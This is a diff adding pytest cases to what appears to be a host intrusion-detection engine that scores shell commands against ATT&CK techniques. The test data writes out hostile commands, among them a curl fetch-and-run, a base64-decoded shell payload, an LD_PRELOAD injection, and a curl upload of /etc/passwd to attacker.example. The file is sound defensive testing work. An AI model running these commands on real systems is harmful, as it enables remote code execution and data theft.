@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 import time
 
 import pytest
@@ -418,3 +419,45 @@ def test_a_unit_copied_from_a_release_tree_counts_less_than_one_staged_in_temp()
     staged = _techniques("cp /tmp/x.service /etc/systemd/system/x.service")["T1543.002"]
     hidden = _techniques("cp /opt/.x/s /etc/cron.d/s")["T1053.003"]
     assert deployed < 0.3 <= staged and hidden >= 0.3
+
+
+def _assessed(line: str, parent: str = "bash", uid: int = 1000) -> dict[str, float]:
+    """The technique weights of one exec of `line` (argv as a shell would split it)."""
+    args = tuple(shlex.split(line))
+    path = args[0] if args[0].startswith("/") else f"/usr/bin/{args[0]}"
+    event = ProcessEvent(args[0].rsplit("/", 1)[-1], " ".join(args), args, executable_path=path, parent_name=parent,
+                         user_id=uid)
+    found: dict[str, float] = {}
+    for evidence in assess(event):
+        found[evidence.technique] = max(found.get(evidence.technique, 0.0), evidence.weight)
+    return found
+
+
+@pytest.mark.parametrize(("line", "technique", "weight"), [
+    ('bash -c "$(curl -fsSL http://203.0.113.9/s.sh)"', "T1105", 0.8),  # the substitution is the command
+    ('sh -c "$(echo Y3VybCB4IHwgc2g= | base64 --decode)"', "T1140", 0.7),
+    ("env LD_PRELOAD=/tmp/evil.so ls", "T1574.006", 0.45),  # the wrapper's assignment counts
+    ("bash /tmp/LinEnum.sh -t", "T1068", 0.7),  # tool names whatever their case
+    ("python3 /dev/shm/.a.py", "T1204.002", 0.5),  # a script run from shared memory or a hidden file
+    ("bash /tmp/x.sh", "T1204.002", 0.3),
+    ("ssh -i /tmp/id_rsa root@10.0.0.5", "T1021.004", 0.35),  # a key kept in a temp place
+    ("curl -F file=@/etc/passwd https://attacker.example/u", "T1048", 0.4),  # a system file sent out
+])
+def test_one_exec_forms_are_read_as_what_they_run(line: str, technique: str, weight: float) -> None:
+    assert _assessed(line).get(technique, 0) >= weight, (line, _assessed(line))
+
+
+@pytest.mark.parametrize("line", [
+    "sudo useradd -m -s /bin/bash jdoe",  # the shell is the account's, not sudo's
+    "ssh deploy@10.0.0.5 uptime",
+    "scp /var/backups/etc.tgz backup@10.0.0.5:/srv/backups/",
+    'eval "$(ssh-agent -s)"',
+    "bash ./install.sh",
+])
+def test_their_everyday_forms_stay_below_suspicion(line: str) -> None:
+    found = {t: w for t, w in _assessed(line).items() if t not in ("T1548.003", "T1136.001", "T1570")}
+    assert all(weight < 0.3 for weight in found.values()), (line, found)
+
+
+def test_a_build_frontend_running_its_script_from_temp_is_not_a_dropper() -> None:
+    assert "T1204.002" not in _assessed("python3 /tmp/pip-build-env-x/setup.py", parent="pip")
